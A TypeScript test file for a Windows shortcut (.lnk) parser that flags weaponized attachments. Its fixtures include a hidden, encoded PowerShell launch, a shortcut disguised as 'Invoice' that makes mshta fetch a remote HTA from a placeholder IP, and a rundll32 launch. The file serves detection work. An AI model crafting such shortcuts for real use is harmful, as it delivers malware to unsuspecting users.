// Shell links: the fields we read and when a shortcut goes from suspicious to certain.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { buildLnk, powershellLnk } from '../../../../test/support/weapons/containers.ts';
import { inspectLnk, parseLnk } from './lnk.ts';

test('the LinkInfo base path and the Unicode StringData are read', () => {
  const link = parseLnk(powershellLnk());
  assert.equal(link.target, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe');
  assert.match(link.arguments ?? '', /^-nop -w hidden -enc [A-Za-z0-9+/=]+$/);
  assert.equal(link.workingDir, 'C:\\Windows\\System32');
  assert.equal(link.iconLocation, '%ProgramFiles(x86)%\\Microsoft\\Edge\\Application\\msedge.exe');
  assert.equal(link.name, undefined);
});

test('ANSI StringData is read too', () => {
  const link = parseLnk(
    buildLnk({
      target: 'C:\\Windows\\System32\\mshta.exe',
      arguments: 'http://198.51.100.7/x.hta',
      name: 'Invoice',
      unicode: false,
    }),
  );
  assert.equal(link.name, 'Invoice');
  assert.equal(link.arguments, 'http://198.51.100.7/x.hta');
});

test('a PowerShell -enc shortcut is the strongest finding, with target and arguments', () => {
  const { findings, children } = inspectLnk(powershellLnk());
  assert.deepEqual(
    findings.map((finding) => [finding.code, finding.weight, finding.kind]),
    [
      ['lnk-attachment', 0.8, 'weaponized'],
      ['lnk-runs-command', 0.95, 'weaponized'],
    ],
  );
  assert.match(findings[1]?.reason ?? '', /runs powershell with download or encoded arguments/);
  assert.match(findings[1]?.reason ?? '', /-enc /);
  assert.equal(children.length, 0);
});

test('a script host target alone is enough; a plain document shortcut is not', () => {
  const rundll = inspectLnk(
    buildLnk({ target: 'C:\\Windows\\System32\\rundll32.exe', arguments: 'x.dll,Start' }),
  );
  assert.equal(rundll.findings[1]?.code, 'lnk-runs-command');
  assert.match(rundll.findings[1]?.reason ?? '', /runs rundll32:/);
  const plain = inspectLnk(buildLnk({ target: 'C:\\Users\\a\\Documents\\report.docx' }));
  assert.deepEqual(
    plain.findings.map((finding) => finding.code),
    ['lnk-attachment'],
  );
});

test('long arguments are truncated in the reason; broken links throw', () => {
  const long = inspectLnk(
    buildLnk({ target: 'C:\\Windows\\System32\\cmd.exe', arguments: `/c ${'A'.repeat(5000)}` }),
  );
  assert.ok((long.findings[1]?.reason.length ?? 0) < 400);
  assert.throws(() => parseLnk(new Uint8Array(10)));
  const truncated = powershellLnk().subarray(0, 120);
  assert.doesNotThrow(() => inspectLnk(truncated));
});
